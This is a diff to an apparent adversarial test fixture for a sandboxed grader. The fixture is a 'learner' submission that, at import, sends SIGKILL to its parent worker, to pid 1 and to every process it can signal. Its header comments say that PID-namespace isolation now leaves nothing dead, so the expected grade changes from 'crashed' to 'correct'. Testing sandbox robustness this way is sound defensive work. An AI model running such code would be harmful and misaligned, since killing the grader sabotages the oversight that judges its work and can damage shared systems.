@@ -1,19 +1,16 @@
-# expect: crashed
-# threat: SIGKILLs its parent (the worker) at import: graded as crashed; the grader restarts the sandbox and goes on
+# expect: correct
+# threat: SIGKILLs its parent, pid 1 and every process it can signal at import; each learner's parent is the init of its own PID namespace (the worker that serves the next learner is invisible to it), so nothing dies and it is graded like any correct solution
 import os
 import signal
 
 import numpy as np
 
-try:
-    _ppid = os.getppid()
-    if _ppid != 1:
-        with open(f"/proc/{_ppid}/cmdline", "rb") as _f:
-            _cmdline = _f.read().replace(b"\0", b" ").lower()
-        if b"gradekit" in _cmdline or b"worker" in _cmdline:
-            os.kill(_ppid, signal.SIGKILL)
-except Exception:
-    pass
+for _target in (os.getppid(), 1, -1):
+    try:
+        if _target not in (0, os.getpid()):
+            os.kill(_target, signal.SIGKILL)
+    except OSError:
+        pass
 
 
 def residual_block(x, w1, w2):
